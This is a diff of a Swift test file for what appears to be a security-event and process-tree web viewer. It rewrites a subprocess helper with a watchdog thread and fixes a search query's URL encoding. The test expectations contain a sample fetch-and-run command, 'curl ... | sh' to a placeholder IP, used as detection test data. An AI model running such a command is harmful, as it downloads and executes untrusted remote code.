@@ -120,27 +120,35 @@ import Testing
         return dom
     }
 
-    /// A program's standard output; stopped (by its PID) after 60 s.
+    /// A program's standard output; stopped (by its PID) after 60 s. The waiting happens on a thread
+    /// of its own: blocking the concurrency pool (two threads on two cores) would starve the server
+    /// the program is reading from.
     func run(_ program: String, _ arguments: [String]) async throws -> String {
-        let process = Process()
-        process.executableURL = URL(fileURLWithPath: program)
-        process.arguments = arguments
-        let output = Pipe()
-        process.standardOutput = output
-        process.standardError = FileHandle.nullDevice
-        let finished = AsyncStream<Void> { continuation in
-            process.terminationHandler = { _ in continuation.finish() }
+        try await withCheckedThrowingContinuation { (continuation: CheckedContinuation<String, any Error>) in
+            let thread = Thread {
+                let process = Process()
+                process.executableURL = URL(fileURLWithPath: program)
+                process.arguments = arguments
+                let output = Pipe()
+                process.standardOutput = output
+                process.standardError = FileHandle.nullDevice
+                do {
+                    try process.run()
+                } catch {
+                    continuation.resume(throwing: error)
+                    return
+                }
+                let pid = process.processIdentifier
+                let watchdog = DispatchWorkItem { kill(pid, SIGKILL) }
+                DispatchQueue.global().asyncAfter(deadline: .now() + 60, execute: watchdog)
+                let data = output.fileHandleForReading.readDataToEndOfFile()
+                var status: Int32 = 0
+                while waitpid(pid, &status, 0) < 0 && errno == EINTR {}
+                watchdog.cancel()
+                continuation.resume(returning: String(decoding: data, as: UTF8.self))
+            }
+            thread.start()
         }
-        try process.run()
-        let pid = process.processIdentifier
-        let watchdog = Task {
-            try await Task.sleep(for: .seconds(60))
-            kill(pid, SIGKILL)
-        }
-        let data = output.fileHandleForReading.readDataToEndOfFile()
-        for await _ in finished {}
-        watchdog.cancel()
-        return String(decoding: data, as: UTF8.self)
     }
 
     @Test(.enabled(if: chromium != nil, "needs Debian's chromium (scripts/setup installs it)"))
@@ -243,7 +251,7 @@ import Testing
             #expect(hosts.0 == .ok && hosts.1.contains("env=prod,role=web") && !hosts.1.contains("role=db"))
             let search = try await page("/events?hosts=all&text=198.51.100.7&since=2026-11-23T00:00:00Z")
             #expect(search.1.contains("bash -c curl -s http://198.51.100.7/x | sh"), "\(search.1)")
-            let words = try await page("/events?words=curl+sh")
+            let words = try await page("/events?words=curl%20sh")
             #expect(words.1.contains("bash -c curl -s http://198.51.100.7/x | sh") && !words.1.contains("<td>curl -s http://198.51.100.7/x</td>"), "\(words.1)")
             let tree = try await page("/process/E-bash")
             #expect(tree.0 == .ok && tree.1.contains(#"href="/process/E-nginx""#) && tree.1.contains(#"href="/process/E-curl""#))
